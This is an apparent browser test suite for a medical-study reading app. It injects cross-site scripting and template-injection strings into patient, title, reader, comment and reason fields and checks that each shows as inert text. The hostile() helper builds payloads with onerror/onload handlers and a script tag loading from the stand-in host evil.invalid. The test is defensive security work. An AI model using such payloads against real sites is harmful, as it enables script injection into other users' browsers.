"""Text that would be a program: codes, titles, labels, comments, reasons and names are shown, and nothing runs."""

import re
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import expect

from browser.client import Client
from browser.conftest import RESIDUUM, Person, Served, add_accounts
from browser.studies import PATIENTS, PEOPLE, SCANS, TREATMENTS, password_of
from residuum.steps.init import init

pytestmark = pytest.mark.slow
Enter = Callable[..., Person]
Talk = Callable[[Served, str], Client]

HOST: Final = "http://evil.invalid"


def hostile(what: str) -> str:
    """Return a text that runs in three ways, and asks another host in two, where it is taken for markup."""
    run = "window.owned=1"
    return f"{what}'><img src={HOST}/i onerror={run}><svg onload={run}><script src={HOST}/s></script>{{{{7*7}}}}"


CHILD, TITLE, FIRST, SECOND = (hostile(what) for what in ("child", "title", "reader a", "reader b"))
COMMENT, SITE, MARK, REASON = (hostile(what) for what in ("comment", "site", "mark", "reason"))


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    """Serve a paired study, whose patient, readers and title are hostile: the format takes any text as a code."""
    folder = tmp_path / "study"
    init(folder)
    texts = {"patients.csv": PATIENTS, "treatments.csv": TREATMENTS, "scans.csv": SCANS}
    for name, text in texts.items():
        (folder / name).write_text(re.sub(r"\bP1\b", f'"{CHILD}"', text), "utf-8")
    (folder / "study.toml").write_text(
        f'format = 1\ntitle = "{TITLE}"\nsynthetic = true\n[reading]\nreaders = ["{FIRST}", "{SECOND}"]\n'
        'design = "independent"\nentry = "marks"\norder = "paired"\nreveal = "scan"\nrepeat_share = 0.0\n',
        "utf-8",
    )
    one = Served(folder)
    one.start()
    add_accounts(one, PEOPLE | {"anne": ("reader", FIRST), "bela": ("reader", SECOND)})
    yield one
    one.stop()


def is_text(page: Any, *shown: str) -> None:
    """See that hostile texts are there to be read, and that none has become anything else."""
    for text in shown:
        expect(page.get_by_text(text).first).to_be_visible()
    assert page.evaluate("window.owned") is None
    assert page.locator("img, svg[onload], [onerror]").count() == 0
    assert page.evaluate("[...document.scripts].every((one) => new URL(one.src).origin === location.origin)")


def test_hostile_text_is_shown_and_never_runs(served: Served, enter: Enter, talk: Talk) -> None:
    anne, bela = talk(served, "anne"), talk(served, "bela")
    mark = {"mark": MARK, "regions": ["femur_left"], "pattern": "focal", "site": SITE}
    cases = [one["case"] for one in anne.get("/worklist")["cases"] if one["patient"] == CHILD]
    assert len(cases) == 2
    assert anne.lock(cases[0], {"marks": [mark], "comment": COMMENT}).status_code == 200
    other = next(one["case"] for one in bela.get("/worklist")["cases"] if one["patient"] == CHILD)
    assert bela.lock(other, {"marks": [mark | {"regions": ["sternum"]}], "comment": COMMENT}).status_code == 200

    reader = enter(served, "anne")
    asked: list[str] = []
    reader.page.on("request", lambda request: asked.append(request.url))
    is_text(reader.page, CHILD, TITLE)
    reader.page.get_by_role("link", name=cases[0], exact=True).click()
    reader.page.get_by_role("button", name=re.compile("left femur")).first.click()
    is_text(reader.page, CHILD, MARK)
    expect(reader.page.get_by_label("Comment")).to_have_value(COMMENT)
    reader.page.goto(f"{served.url}/#/case/{cases[1]}")
    reader.page.get_by_text("1 to confirm or clear").wait_for()
    reader.page.keyboard.press("y")
    reader.page.get_by_text("all settled").wait_for()
    reader.page.get_by_text("Saved", exact=True).wait_for()
    reader.page.keyboard.press("l")
    reader.page.get_by_role("dialog").wait_for()
    is_text(reader.page, CHILD)

    judge = enter(served, "judge")
    judge.page.get_by_role("row").nth(1).wait_for()
    judge.page.keyboard.press("Enter")
    judge.page.locator(".differences li").first.wait_for()
    judge.page.keyboard.press("1")
    judge.page.keyboard.press("1")
    judge.page.locator("details summary").click()
    judge.page.get_by_label("Add by name").select_option("left foot")
    judge.page.get_by_role("button", name="Add", exact=True).click()
    judge.page.get_by_label("Comment").fill(COMMENT)
    judge.page.get_by_label("Comment").blur()
    judge.page.get_by_text("Saved", exact=True).wait_for()
    judge.page.keyboard.press("l")
    dialog = judge.page.get_by_role("dialog")
    is_text(judge.page, CHILD, TITLE, COMMENT)
    dialog.get_by_label("Password").fill(password_of("judge"))
    judge.page.keyboard.press("Enter")
    dialog.get_by_label("Reason: left foot").fill(REASON)
    judge.page.keyboard.press("Enter")
    dialog.wait_for(state="detached")

    manager = enter(served, "manager")
    is_text(manager.page, TITLE, FIRST, SECOND)
    manager.page.context.on("request", lambda request: asked.append(request.url))
    manager.page.get_by_role("button", name="Analyse what is locked").click()
    manager.page.get_by_role("link", name="Open the whole report").wait_for(timeout=90_000)
    with manager.page.context.expect_page() as opened:
        manager.page.get_by_role("link", name="Open the whole report").click()
    opened.value.get_by_text("Research software").first.wait_for()
    assert opened.value.evaluate("window.owned") is None
    assert opened.value.locator("script[src], img[onerror], svg[onload]").count() == 0
    assert not [url for url in asked if not url.startswith(served.url)]
    for person in (reader, judge, manager):
        assert person.page.title() == "Residuum"
        assert all(error.startswith("Failed to load resource") for error in person.errors)  # what was refused


def test_an_account_has_no_hostile_name(served: Served) -> None:
    command = [*RESIDUUM, "user", "add", hostile("anne"), "--role", "reader", "--reader", FIRST, "--password-stdin"]
    done = subprocess.run([*command, "--study", str(served.study)], input=password_of("x"), text=True, check=False)
    assert done.returncode != 0


def test_the_policy_makes_no_exception(served: Served, talk: Talk) -> None:
    http = talk(served, "anne").http
    for path in ("/", "/mark.svg", "/api/worklist", "/api/study", "/nowhere"):
        policy = http.get(f"{served.url}{path}").headers["content-security-policy"]
        assert "default-src 'self'" in policy
        assert not re.search(r"unsafe|data:|blob:|\*|https?:|nonce|sha256", policy), path
